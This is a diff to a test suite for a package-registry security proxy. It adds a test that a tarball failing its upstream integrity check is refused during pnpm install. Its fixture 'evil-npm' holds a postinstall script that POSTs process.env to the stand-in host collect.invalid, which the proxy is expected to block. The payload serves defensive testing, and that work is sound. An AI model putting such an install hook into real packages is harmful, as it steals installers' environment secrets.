@@ -41,6 +41,7 @@ const evilNpm = makeNpmTgz(
   { name: 'evil-npm', version: '1.0.0', scripts: { postinstall: 'node x.js' } },
   { 'x.js': "const https = require('https');\nconst req = https.request({ hostname: 'collect.invalid', path: '/c', method: 'POST' });\nreq.end(JSON.stringify(process.env));\n" },
 );
+const tamperNpm = makeNpmTgz({ name: 'tamper-npm', version: '1.0.0' }, { 'index.js': 'module.exports = 3;\n' });
 const REASON = 'postinstall sends process.env to collect.invalid (x.js:3, runs on install).';
 
 const fakeScanner: ArtifactScanner = async (_bytes, _filename, context) =>
@@ -183,6 +184,7 @@ before(async () => {
       { name: 'left-pad', version: '1.0.0', bytes: leftPad },
       { name: 'left-pad', version: '1.1.0', bytes: leftPad2 },
       { name: 'evil-npm', version: '1.0.0', bytes: evilNpm },
+      { name: 'tamper-npm', version: '1.0.0', bytes: tamperNpm, tampered: leftPad },
     ],
   );
   proxy = new GuardProxy({
@@ -220,6 +222,14 @@ describe('pnpm and yarn through the proxy', { concurrency: 4 }, () => {
     assert.notEqual(r.code, 0, r.out);
     assert.match(r.out, /ERR_PNPM_FETCH_403\s+GET \S+evil-npm-1\.0\.0\.tgz: Blocked by Vigil: evil-npm@1\.0\.0: malicious \(score 150\): postinstall sends/);
     assert.ok(!existsSync(join(p.dir, 'node_modules/evil-npm')));
+  });
+
+  test('pnpm add: a tarball that does not match the upstream integrity is refused', { skip: skipPnpm }, async () => {
+    const p = project('pnpm-tamper');
+    const r = await pnpm(p, 'add', 'tamper-npm@1.0.0');
+    assert.notEqual(r.code, 0, r.out);
+    assert.match(r.out, /ERR_PNPM_FETCH_403\s+GET \S+tamper-npm-1\.0\.0\.tgz: Blocked by Vigil: tamper-npm@1\.0\.0: integrity check failed/);
+    assert.ok(!existsSync(join(p.dir, 'node_modules/tamper-npm')));
   });
 
   test('yarn classic add: the tarball arrives byte-identical; the MAL-hidden 1.1.0 is not chosen', { skip: skipYarn1 }, async () => {
